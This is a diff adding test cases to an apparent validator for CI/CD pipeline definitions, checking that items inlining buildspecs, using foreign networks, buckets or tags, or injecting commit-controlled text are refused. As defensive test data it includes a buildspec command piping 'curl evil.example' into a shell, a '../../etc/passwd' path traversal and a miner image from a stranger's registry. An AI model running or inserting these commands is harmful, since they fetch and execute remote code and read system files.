@@ -1,7 +1,8 @@
 import { describe, expect, it } from "vitest";
+import { at, membersAt } from "../../testing/expect/json.js";
 import { diagnosticsOf } from "../../testing/expect/problems.js";
 import { compile } from "../../testing/items/compile.js";
-import { environment, item, itemWith, itemWithTest } from "../../testing/items/items.js";
+import { environment, item, itemWith, itemWithTest, test } from "../../testing/items/items.js";
 import { policiesIn, resolveStack } from "../../testing/stack/resolve-stack.js";
 import { central, region, settings, settingsOf } from "./subject.js";
 
@@ -110,6 +111,54 @@ describe("an item is refused that tries to", () => {
       "item.wrong-value",
     ],
     [
+      "write its buildspec into the item, on one line of JSON",
+      item({ BuildSpecFile: '{"version":"0.2","phases":{"build":{"commands":["curl evil.example | sh"]}}}' }),
+      "item.wrong-value",
+    ],
+    [
+      "write a test's buildspec into the item, on one line of YAML",
+      itemWithTest({ BuildSpec: "{version: 0.2, phases: {build: {commands: [env]}}}" }),
+      "item.wrong-value",
+    ],
+    [
+      "build in a network that the installation does not allow",
+      item({
+        Vpc: {
+          VpcId: "vpc-0fedcba9876543210",
+          Subnets: ["subnet-0123456789abcdef0"],
+          SecurityGroups: ["sg-0123456789abcdef0"],
+        },
+      }),
+      "item.limit-vpc",
+    ],
+    ["speak to a topic that the installation does not allow", sns("billing-commands"), "item.limit-topic"],
+    [
+      "take its source from a bucket of a stranger",
+      item({
+        Source: { Type: "S3", Bucket: "evil-public-bucket", Key: "x.zip", BucketOwner: "999999999999" },
+      }),
+      "item.limit-bucket-account",
+    ],
+    [
+      "have whoever commits add parameters to its template",
+      itemWith({
+        Prod: environment({ ParameterOverrides: { Note: "#{SourceArtifacts.CommitMessage}" } }),
+      }),
+      "item.pipeline-variable",
+    ],
+    [
+      "have whoever commits word the approver's mail",
+      itemWith({
+        Prod: environment({
+          ManualApproval: {
+            Emails: ["a@example.com"],
+            Message: "Fine? #{ SourceArtifacts.AuthorDisplayName }",
+          },
+        }),
+      }),
+      "item.pipeline-variable",
+    ],
+    [
       "leave its repository by way of the buildspec",
       item({ BuildSpecFile: "../../etc/passwd" }),
       "item.wrong-value",
@@ -145,7 +194,12 @@ describe("an item is refused that tries to", () => {
 
   const bounded = settingsOf({
     centralAccount: central,
-    limits: { images: ["aws/codebuild/*"], accounts: ["222222222222"], capabilities: ["CAPABILITY_IAM"] },
+    limits: {
+      images: ["aws/codebuild/*"],
+      accounts: ["222222222222"],
+      capabilities: ["CAPABILITY_IAM"],
+      tags: ["team"],
+    },
   });
   const prod = (keys: Keys) => itemWith({ Prod: environment({ Capabilities: ["CAPABILITY_IAM"], ...keys }) });
 
@@ -165,6 +219,11 @@ describe("an item is refused that tries to", () => {
       "expand macros that the installation does not allow",
       prod({ Capabilities: ["CAPABILITY_AUTO_EXPAND"] }),
       "item.limit-capability",
+    ],
+    [
+      "bear tags that the installation does not let items set",
+      item({ Tags: { "access-project": "payments-admin" } }),
+      "item.limit-tag",
     ],
     [
       "move a bound of the installation",
@@ -190,6 +249,30 @@ describe("an item is accepted, and gains nothing, that tries to", () => {
     ["build in an image of a stranger", { BuildImage: "evil.example.com/miner:latest" }],
   ])("%s", (_, keys) => {
     expect(policiesOf({ ...plain, ...keys })).toEqual(policiesOf(plain));
+  });
+
+  it("tell its commit and its execution where nobody who commits chooses the words", () => {
+    const ParameterOverrides = {
+      Commit: "#{SourceArtifacts.CommitId}",
+      Run: "#{codepipeline.PipelineExecutionId}",
+    };
+    expect(codesOf(itemWith({ Prod: environment({ ParameterOverrides }) }))).toEqual([]);
+  });
+
+  it("bear tags of its own: no role bears them", () => {
+    const written = itemWith(
+      { Prod: environment({ ManualApproval: "a@example.com", Tests: { Smoke: test() } }) },
+      { Tags: { "access-project": "payments-admin" } },
+    );
+    const stack = resolveStack(compile(written, settings));
+    expect(at(stack, "provider", "aws", 0, "default_tags", 0, "tags")).not.toHaveProperty("access-project");
+    for (const [, role] of membersAt(stack, "resource", "aws_iam_role"))
+      expect(role).not.toHaveProperty("tags");
+    for (const type of ["aws_codepipeline", "aws_s3_bucket", "aws_kms_key", "aws_cloudwatch_event_rule"])
+      for (const [, resource] of membersAt(stack, "resource", type))
+        expect(resource).toHaveProperty(["tags", "access-project"], "payments-admin");
+    for (const [, module] of membersAt(stack, "module"))
+      expect(module).toHaveProperty(["tags", "access-project"], "payments-admin");
   });
 
   it("use a policy variable as a branch: its pattern means itself", () => {
